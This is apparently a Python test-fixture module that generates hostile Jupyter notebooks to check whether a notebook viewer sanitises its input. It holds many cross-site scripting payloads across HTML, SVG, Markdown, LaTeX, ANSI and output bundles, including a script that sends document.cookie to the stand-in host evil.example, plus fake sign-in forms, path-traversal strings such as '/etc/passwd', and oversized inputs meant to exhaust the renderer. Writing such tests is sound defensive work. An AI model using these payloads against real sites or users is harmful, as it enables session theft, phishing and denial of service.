"""Notebooks that attack whoever looks at them: by scripts, requests, forms, looks, and by what they cost."""

# ruff: noqa: E501  # an attack is one line

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import nbformat

EVIL = "http://evil.example"
CODE = (
    "window.top.ran=1;document.title='ran';alert(1);"
    f"new Image().src='{EVIL}/?'+document.cookie;fetch('{EVIL}/f');location='{EVIL}/l'"
)
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
DRAWING = (
    f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"{CODE}\">"
    f"<script>{CODE}</script><image href='{EVIL}/i.png'/><use xlink:href='{EVIL}/u.svg#a'/>"
    f"<style>@import url({EVIL}/s.css); * {{ background: url({EVIL}/b.png) }}</style>"
    f"<a xlink:href=\"javascript:{CODE}\"><text y='20'>click</text></a>"
    f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{EVIL}'/><body onload=\"{CODE}\"/></foreignObject>"
    f"<animate attributeName='href' values=\"javascript:{CODE}\"/><set attributeName='onmouseover' to=\"{CODE}\"/></svg>"
)

HTML = {
    "script": f"<script>{CODE}</script><SCRIPT SRC={EVIL}/x.js></SCRIPT><script type=module>import '{EVIL}/m.js'</script>",
    "handlers": f'<img src=x onerror="{CODE}"><body onload="{CODE}"><details open ontoggle="{CODE}">x</details>'
    f'<input autofocus onfocus="{CODE}"><video><source onerror="{CODE}"></video><marquee onstart="{CODE}">x</marquee>'
    f'<div onpointerenter="{CODE}" style="position:fixed;inset:0">x</div>',
    "svg": DRAWING,
    "svg in a picture": f'<img src="data:image/svg+xml,{DRAWING.replace("#", "%23").replace(chr(34), "%22")}">',
    "frames": f'<iframe src="javascript:{CODE}"></iframe><iframe srcdoc="<script>{CODE}</script>"></iframe>'
    f'<iframe src="{EVIL}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}"><frameset><frame src="{EVIL}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}"><meta http-equiv=Set-Cookie content="a=b">'
    f'<base href="{EVIL}/"><link rel=stylesheet href={EVIL}/x.css><link rel=preload as=image href={EVIL}/p.png>',
    "style": f"<style>@import '{EVIL}/i.css'; input[value^=a] {{ background: url({EVIL}/a) }} "
    f"body {{ display: none }}</style><p style=\"background:url('{EVIL}/s.png')\">x</p>"
    f'<table background="{EVIL}/t.png"><td background="{EVIL}/d.png">x</table><font face="x" color=red>x</font>',
    "forms": f'<form action="{EVIL}" method=post id=f><input name=password><button autofocus>Sign in</button></form>'
    f'<button form=f formaction="{EVIL}">x</button><isindex action="{EVIL}"><form action="/logout" method="post">'
    "<input type=image src=x></form>",
    "pictures": f'<img src="{EVIL}/1.png"><img srcset="{EVIL}/2.png 2x"><picture><source srcset="{EVIL}/3.png">'
    f'<img src="{EVIL}/4.png"></picture><video poster="{EVIL}/5.png" src="{EVIL}/6.mp4" autoplay></video>'
    f'<audio src="{EVIL}/7.mp3" autoplay></audio><img src="//evil.example/8.png"><img src="/logout">'
    f'<img lowsrc="{EVIL}/9.png" dynsrc="{EVIL}/10.png"><body background="{EVIL}/11.png">',
    "links": f'<a href="javascript:{CODE}">a</a><a href=" jAvA\tscript:{CODE}">b</a><a href="&#106;avascript:{CODE}">c</a>'
    f'<a href="data:text/html,<script>{CODE}</script>">d</a><a href="vbscript:x">e</a><a ping="{EVIL}" href="#x">f</a>'
    f'<area href="javascript:{CODE}"><a href="blob:x">g</a><a href="javascript&colon;{CODE}">h</a>',
    "mutation 1": f'<math><mi><table><mglyph><style><img src onerror="{CODE}"></style></mglyph></table></mi></math>',
    "mutation 2": f"<noscript><p title=\"</noscript><img src=x onerror='{CODE}'>\"></noscript>",
    "mutation 3": f"<svg></p><style><a id=\"</style><img src=1 onerror='{CODE}'>\">",
    "mutation 4": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{CODE}">',
    "mutation 5": f'<!--><img src onerror="{CODE}">--><!--!><img src onerror="{CODE}">-->',
    "mutation 6": f'<template><s><template><s><img src=x onerror="{CODE}">@</s></template></s></template>',
    "mutation 7": f"<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror='{CODE}'>\">",
    "mutation 8": f"<math><annotation-xml encoding='text/html'><style><img src=x onerror=\"{CODE}\"></style></annotation-xml></math>",
    "mutation 9": f'<plaintext><img src=x onerror="{CODE}">',
    "textarea": f"<textarea><img title=\"</textarea><img src=x onerror='{CODE}'>\"></textarea><xmp><p id=\"</xmp><img src=x onerror='{CODE}'>\">",
    "clobbering": '<img name="cookie"><form name="forms"><input name="action"><a id="main" href="#">x</a>'
    '<input name="_xsrf" value="x"><div id="content" class="button primary bar flash">Sign in again</div></form>',
    "bytes": "<scr\x01ipt>alert(1)</scr\x01ipt><im\x0bg src=x onerror=alert(1)>\ufeff<\ufeffscript>alert(1)</script>",
    "mathml": f'<math href="javascript:{CODE}"><mi xlink:href="javascript:{CODE}">x</mi><maction actiontype="statusline#'
    f'{EVIL}" href="javascript:{CODE}"><mtext>y</mtext></maction><mglyph src="{EVIL}/g.png"></math>',
    "covering": '<div class="bar overlay dialog menu-list flash problem" id="main" style="position:fixed;inset:0;z-index:9">'
    '<h1 id="main" style="position:fixed;inset:0">Sign in again</h1><h2 id="main">x</h2></div>',
    "custom": f'<x-y onclick="{CODE}" tabindex=1 autofocus onfocus="{CODE}">x</x-y><slot onslotchange="{CODE}"></slot>'
    f'<dialog open oncancel="{CODE}">x</dialog><p popover id=p>x</p><button popovertarget=p>y</button>',
}

MARKDOWN = {
    "links": f"[a](javascript:{CODE}) [b](<javascript:{CODE}>) [c](data:text/html;base64,PHNjcmlwdD4=) "
    f"[d][e]\n\n[e]: javascript:{CODE}\n\n<javascript:{CODE}> ![x]({EVIL}/m.png) ![y](//evil.example/n.png)",
    "titles": f"[a](/x '\" onmouseover=\"{CODE}') ![b](data:image/png;base64,AAAA \"' onerror='{CODE}\")",
    "code fence": f'```"><script>{CODE}</script>\nx\n```\n\n~~~html" onclick="{CODE}\n</code></pre><script>{CODE}</script>\n~~~',
    "raw": "\n\n".join(HTML.values()),
    "autolinks": f'<http://evil.example/"onclick="{CODE}> http://evil.example/<script>{CODE}</script>',
    "heading": f'# <img src=x onerror="{CODE}">\n\n## [x](javascript:{CODE}) "id=\'main\'',
    "table": f"| a | b |\n| --- | --- |\n| <script>{CODE}</script> | [x](javascript:{CODE}) |",
}

TEX = [
    r"\href{javascript:alert(1)}{x}",
    r"\url{javascript:alert(1)}",
    r"\includegraphics{http://evil.example/x.png}",
    r"\style{background:url(http://evil.example)}{y}",
    r"\class{button primary}{y}",
    r"\cssId{main}{y}",
    r"\html{<script>alert(1)</script>}",
    r"\text{<script>alert(1)</script>}",
    r"</math><script>alert(1)</script>",
    r"\unicode{<img src=x onerror=alert(1)>}",
    r"\require{html}\href{javascript:alert(1)}{x}",
    r"\def\x{\x\x}\x",
    r"\color{red\" onclick=\"alert(1)}{y}",
    r"\begin{array}{c\" onload=\"alert(1)}x\end{array}",
    r"\data{x=y}{z}",
    r"\bbox[background:url(http://evil.example/b)]{x}",
    r"\input{/etc/passwd}",
    r"\write18{id}",
]

ANSI = [
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[38;5;<script>alert(1)</script>m",
    "\x1b[48;2;1;2;3;url(http://evil.example)mx",
    "\x1b]0;title\x07\x1b[2J\x1b[H",
    "\x1b[999999999999999999999mx",
    "\x1b[" + "1;" * 5000 + "mx",
    "\x9b31m\x9c",
]

BUNDLES: dict[str, dict[str, Any]] = {
    "javascript": {"application/javascript": CODE, "text/javascript": CODE, "text/plain": "x"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{CODE}</script>"}},
    "json": {"application/json": {"__proto__": {"x": 1}, "constructor": f"<script>{CODE}</script>"}},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": f"{EVIL}/d.json"}}},
    "pdf": {"application/pdf": "JVBERi0=", "text/plain": "x"},
    "latex": {"text/latex": "$$" + "".join(TEX) + "$$"},
    "svg": {"image/svg+xml": DRAWING},
    "svg as a list": {"image/svg+xml": [DRAWING, DRAWING]},
    "false picture": {"image/png": f'"><script>{CODE}</script>', "text/html": "x"},
    "false picture 2": {"image/png": "PHN2Zz4=", "image/jpeg": f'AAAA" onerror="{CODE}'},
    "unknown": {f'text/x"><script>{CODE}</script>': "x", "text/plain": f"<script>{CODE}</script>"},
}

COSTLY = {
    "lists": "- " * 20_000 + "x",
    "equal headings": "<h2 id=x>a</h2>" * 20_000,
    "nested": "<div>" * 200_000,
    "formatting": "".join(f"<font color={number}>" for number in range(2000)) + "<p>x" * 50_000,
    "tables": "<table><tr><td>" * 60_000,
    "environments": "\\begin{a}" * 50_000,
    "quotes": ">" * 50_000 + "x",
    "brackets": "![[" * 50_000,
    "emphasis": "*a_**" * 50_000,
    "braces": "$" + "{" * 100_000 + "$",
    "entities": "&" * 500_000,
}


def code(**data: Any) -> Any:
    """A code cell with one output."""
    cell = nbformat.v4.new_code_cell("display(x)", execution_count=1)
    cell.outputs = [nbformat.v4.new_output("display_data", data=data)]
    return cell


def printed(text: str) -> Any:
    """A code cell that printed, and failed with, a text."""
    cell = nbformat.v4.new_code_cell(text)
    cell.outputs = [
        nbformat.v4.new_output("stream", text=text),
        nbformat.v4.new_output("error", ename=text, evalue=text, traceback=[text]),
    ]
    return cell


def notebooks() -> Iterator[tuple[str, Any]]:
    """All of them, each with what it tries."""
    v4 = nbformat.v4
    for name, html in HTML.items():
        yield f"html: {name}", v4.new_notebook(cells=[code(**{"text/html": html}), v4.new_markdown_cell(html)])
    for name, text in MARKDOWN.items():
        cells = [v4.new_markdown_cell(text), code(**{"text/markdown": text})]
        yield f"markdown: {name}", v4.new_notebook(cells=cells)
    formulas = [v4.new_markdown_cell(f"${tex}$\n\n$${tex}$$\n\n[a](/x '${tex}$')") for tex in TEX]
    yield "formulas", v4.new_notebook(cells=formulas)
    yield "terminal", v4.new_notebook(cells=[printed(text) for text in (*ANSI, HTML["script"], HTML["handlers"])])
    for name, bundle in BUNDLES.items():
        yield f"bundle: {name}", v4.new_notebook(cells=[code(**bundle)])
    for name, text in COSTLY.items():
        yield f"cost: {name}", v4.new_notebook(cells=[v4.new_markdown_cell(text), code(**{"text/html": text})])
    lines = [v4.new_code_cell(sign * 90_000) for sign in ".?(*'"]
    yield "cost: long lines of code", v4.new_notebook(cells=lines)
    metadata = {
        "kernelspec": {"name": f"<script>{CODE}</script>", "display_name": f'"><script>{CODE}</script>'},
        "language_info": {"name": "../../../etc/passwd"},
        "title": f"<script>{CODE}</script>",
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": f"</script><script>{CODE}</script>"}}},
    }
    yield "metadata", v4.new_notebook(cells=[v4.new_code_cell("x")], metadata=metadata)
    attached = v4.new_markdown_cell(
        "![a](attachment:a.png) ![b](attachment:b.svg) <img src='attachment:a.png'> ![c](attachment:c.png)"
    )
    attached.attachments = {
        "a.png": {"image/png": f'AAAA"><script>{CODE}</script>'},
        "b.svg": {"image/svg+xml": DRAWING},
        "": {"image/png": PIXEL},
    }
    yield "attachments", v4.new_notebook(cells=[attached])
    yield "very long", v4.new_notebook(cells=[printed("x" * 3_000_000), v4.new_raw_cell("y" * 1_000_000)])
